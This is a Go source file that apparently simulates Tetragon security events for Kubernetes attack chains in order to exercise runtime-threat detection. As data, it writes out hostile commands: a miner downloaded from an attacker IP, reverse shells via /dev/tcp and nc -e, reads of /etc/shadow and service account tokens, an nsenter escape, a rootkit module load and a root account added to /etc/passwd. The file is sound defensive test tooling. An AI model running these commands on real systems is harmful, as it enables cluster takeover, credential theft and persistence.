// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package tetragonsim

import "github.com/cilium/tetragon/api/v1/tetragon"

// Attacker infrastructure used by the attack chains.
const (
	AttackerIP              = "203.0.113.50"
	ReverseShellIP          = "10.0.0.1"
	ReverseShellPort        = 4444
	MinerPoolIP             = "198.51.100.23"
	MinerPoolPort           = 3333
	debianMirrorIP          = "192.0.2.132"
	serviceAccountTokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"
)

// attack plans one attack round, each part in a pod picked at random so namespaces and
// workloads vary from round to round:
//   - a pod with a shell: kubectl exec into bash, reconnaissance, /etc/shadow and the service
//     account token read with cat, apt-get install, a miner downloaded to /tmp and run
//     (xmrig -o stratum+tcp://pool:3333), a setuid copy of a shell, /proc/1/environ read, reverse
//     shells (bash -i >& /dev/tcp/… and nc -e), an nmap SYN scan (raw socket) and the shell
//     history removed;
//   - an nginx pod: a shell spawned by nginx (web shell);
//   - a privileged pod: nsenter into the host namespaces (setns), a ptrace attach, a kernel module
//     load and a write to /etc/passwd.
func (g *Generator) attack() {
	g.attackRound++
	if pd := g.pickPod(func(w *workloadSpec) bool { return w.shell != "" && !w.job && !w.privileged }); pd != nil {
		g.attackShellPod(pd)
	}
	if pd := g.pickPod(func(w *workloadSpec) bool { return w.nginx }); pd != nil {
		g.attackWebShell(pd)
	}
	if pd := g.pickPod(func(w *workloadSpec) bool { return w.privileged && w.shell != "" }); pd != nil {
		g.attackPrivileged(pd)
	}
}

// kubectlExec is `kubectl exec -it`: runc exec in the pod with a terminal, running the shell. The
// shell is not in the container's init tree and is not an exec probe.
func (g *Generator) kubectlExec(pd *pod, shell *ph) {
	runc := &ph{}
	g.add(g.exec(runc, fixed(pd.shim), execOpts{binary: "/usr/bin/runc", args: g.runcExecArgs(pd, true), host: true, cwd: shimTaskRoot + pd.cid}))
	for _, ns := range []int32{cloneNewIPC, cloneNewUTS, cloneNewNet, cloneNewPID, cloneNewNS} {
		g.add(g.setnsTP(runc, int32(5+g.rng.IntN(4)), ns))
	}
	g.add(g.exec(shell, runc, execOpts{binary: pd.spec.shell, args: "", pod: pd, cwd: "/", initTree: boolp(false)}))
}

// run is a command of the attacker's shell: exec, the given hook events, exit.
func (g *Generator) run(parent *ph, bin, args string, during func(h *ph)) *ph {
	h := &ph{}
	g.add(g.exec(h, parent, execOpts{binary: bin, args: args}))
	if during != nil {
		during(h)
	}
	g.add(g.exit(h, 0, ""))
	return h
}

func (g *Generator) attackShellPod(pd *pod) {
	bash := &ph{}
	g.kubectlExec(pd, bash)
	g.run(bash, "/usr/bin/id", "", nil)
	g.run(bash, "/usr/bin/uname", "-a", nil)
	g.run(bash, "/bin/cat", "/etc/os-release", func(h *ph) {
		g.add(g.fileAccess(h, hookFileMonitoring, "/etc/os-release", mayRead))
	})
	// Credential access: the shadow file and the service account token.
	g.run(bash, "/bin/cat", "/etc/shadow", func(h *ph) {
		g.add(g.openat(h, "/etc/shadow", oRDONLY), g.fileAccess(h, hookSensitiveFile, "/etc/shadow", mayRead))
	})
	g.run(bash, "/bin/cat", serviceAccountTokenPath, func(h *ph) {
		g.add(g.openat(h, serviceAccountTokenPath, oRDONLY), g.fileAccess(h, hookSensitiveFile, serviceAccountTokenPath, mayRead))
	})
	// Tools through the package manager.
	g.run(bash, "/usr/bin/apt-get", "install -y nmap netcat-traditional", func(apt *ph) {
		g.run(apt, "/usr/lib/apt/methods/http", "", func(h *ph) {
			g.add(g.tcpConnect(h, debianMirrorIP, 80))
		})
		g.run(apt, "/usr/bin/dpkg", "--status-fd 35 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb", func(h *ph) {
			g.add(g.fileAccess(h, hookFileMonitoring, "/usr/bin/nmap.dpkg-new", mayWrite))
		})
	})
	// A miner dropped in /tmp and run from there.
	g.run(bash, "/usr/bin/curl", "-fsSL -o /tmp/xmrig http://"+AttackerIP+"/xmrig", func(h *ph) {
		g.add(g.tcpConnect(h, AttackerIP, 80), g.fileAccess(h, hookFileMonitoring, "/tmp/xmrig", mayWrite))
	})
	g.run(bash, "/bin/chmod", "+x /tmp/xmrig", nil)
	// A setuid copy of a shell kept for later (fchmodat with S_ISUID).
	g.run(bash, "/bin/chmod", "4755 /tmp/.sh", func(h *ph) {
		g.add(g.tracepoint(h, "syscalls", "sys_enter_fchmodat", hookFileMetadata, intArg(-100), stringArg("/tmp/.sh"), uintArg(0o4755)))
	})
	// Secrets from the init process's environment.
	g.run(bash, "/bin/cat", "/proc/1/environ", func(h *ph) {
		g.add(g.openat(h, "/proc/1/environ", oRDONLY))
	})
	miner := &ph{}
	g.add(
		g.tracepoint(bash, "syscalls", "sys_enter_execve", hookExecWritable, stringArg("/tmp/xmrig")),
		g.exec(miner, bash, execOpts{binary: "/tmp/xmrig", args: "-o stratum+tcp://pool:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p sim --donate-level 1"}),
		g.tcpConnect(miner, MinerPoolIP, MinerPoolPort),
		g.connectTP(miner, MinerPoolIP, MinerPoolPort),
	)
	// Reverse shells: bash's /dev/tcp redirection, then netcat -e.
	rev := &ph{}
	g.add(
		g.exec(rev, bash, execOpts{binary: "/bin/bash", args: `-c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`}),
		g.tcpConnect(rev, ReverseShellIP, ReverseShellPort),
		g.connectTP(rev, ReverseShellIP, ReverseShellPort),
	)
	interactive := &ph{}
	g.add(g.exec(interactive, rev, execOpts{binary: "/bin/bash", args: "-i", reexec: rev}))
	g.run(interactive, "/usr/bin/whoami", "", nil)
	g.add(g.exit(interactive, 0, ""))
	nc := &ph{}
	g.add(
		g.exec(nc, bash, execOpts{binary: "/usr/bin/nc", args: "-e /bin/sh 10.0.0.1 4444"}),
		g.tcpConnect(nc, ReverseShellIP, ReverseShellPort),
	)
	ncsh := &ph{}
	g.add(g.exec(ncsh, nc, execOpts{binary: "/bin/sh", args: "", reexec: nc}))
	g.run(ncsh, "/usr/bin/id", "", nil)
	g.add(g.exit(ncsh, 0, ""))
	// Discovery of the cluster network (a SYN scan: a raw IP socket).
	g.run(bash, "/usr/bin/nmap", "-sS -Pn -p 22,80,443,2379,6443,10250 10.96.0.0/24", func(h *ph) {
		g.add(g.tracepoint(h, "syscalls", "sys_enter_socket", hookSocket, intArg(2), intArg(3), intArg(6)))
		for _, t := range []endpoint{{apiServerIP, 443}, {apiServerIP, 6443}, {"10.96.0.10", 80}, {nodeIP, 10250}, {nodeIP, 2379}} {
			g.add(g.tcpConnect(h, t.ip, t.port))
		}
	})
	// Covering tracks: the shell history removed.
	g.run(bash, "/bin/rm", "-f /root/.bash_history", func(h *ph) {
		g.add(g.tracepoint(h, "syscalls", "sys_enter_unlinkat", hookFileModify, intArg(-100), stringArg("/root/.bash_history"), intArg(0)))
	})
	g.add(g.exit(miner, 0, "SIGKILL"), g.exit(bash, 0, ""))
}

// attackWebShell is remote code execution through the web server: nginx spawns a shell.
func (g *Generator) attackWebShell(pd *pod) {
	nginx := fixed(pd.main)
	sh := &ph{}
	g.add(g.exec(sh, nginx, execOpts{binary: "/bin/sh", args: `-c "id; uname -a; cat /etc/passwd"`, uid: pd.spec.uid}))
	g.run(sh, "/usr/bin/id", "", nil)
	g.run(sh, "/bin/uname", "-a", nil)
	g.run(sh, "/bin/cat", "/etc/passwd", func(h *ph) {
		g.add(g.openat(h, "/etc/passwd", oRDONLY), g.fileAccess(h, hookSensitiveFile, "/etc/passwd", mayRead))
	})
	g.add(g.exit(sh, 0, ""))
}

// attackPrivileged escapes a privileged pod to the node.
func (g *Generator) attackPrivileged(pd *pod) {
	shell := &ph{}
	g.kubectlExec(pd, shell)
	nsenter := &ph{}
	g.add(g.exec(nsenter, shell, execOpts{binary: "/usr/bin/nsenter", args: "-t 1 -m -u -n -i -p /bin/bash"}))
	for i, ns := range []int32{cloneNewNS, cloneNewUTS, cloneNewNet, cloneNewIPC, cloneNewPID} {
		g.add(
			g.kprobe(nsenter, "__x64_sys_setns", hookNamespaceKP, intArg(0), intArg(int32(3+i)), intArg(ns)),
			g.setnsTP(nsenter, int32(3+i), ns),
		)
	}
	g.add(g.rawSyscall(nsenter, sysSetns, 3, cloneNewNS))
	host := &ph{}
	g.add(g.exec(host, nsenter, execOpts{binary: "/bin/bash", args: "", reexec: nsenter}))
	// Process injection: ptrace attach to the node's init.
	g.run(host, "/usr/bin/gdb", "-p 1 -batch -ex \"info registers\"", func(h *ph) {
		g.add(
			g.tracepoint(h, "syscalls", "sys_enter_ptrace", hookPtrace, longArg(ptraceAttach), longArg(1), sizeArg(0)),
			g.rawSyscall(h, sysPtrace, ptraceAttach, 1, 0, 0),
		)
	})
	// A rootkit module.
	g.run(host, "/usr/sbin/insmod", "/tmp/diamorphine.ko", func(h *ph) {
		g.add(
			g.kprobe(h, "security_kernel_read_file", hookModules, intArg(0), fileArg("/tmp/diamorphine.ko", "-rw-r--r--"), intArg(2)),
			g.rawSyscall(h, sysFinitModule, 3, 0, 0),
			g.kprobe(h, "do_init_module", hookModules, nil, &tetragon.KprobeArgument{Arg: &tetragon.KprobeArgument_ModuleArg{
				ModuleArg: &tetragon.KernelModule{Name: "diamorphine", Tainted: []tetragon.TaintedBitsType{
					tetragon.TaintedBitsType_TAINT_OUT_OF_TREE_MODULE, tetragon.TaintedBitsType_TAINT_UNSIGNED_MODULE,
				}},
			}}),
		)
	})
	// Persistence: a root account appended to /etc/passwd.
	g.run(host, "/bin/sh", `-c "echo 'sysadmin:x:0:0::/root:/bin/bash' >> /etc/passwd"`, func(h *ph) {
		g.add(
			g.openat(h, "/etc/passwd", oWRONLY|oCREAT|oAPPEND),
			g.fileAccess(h, hookSensitiveFile, "/etc/passwd", mayWrite),
		)
	})
	g.add(g.exit(host, 0, ""), g.exit(shell, 0, ""))
}
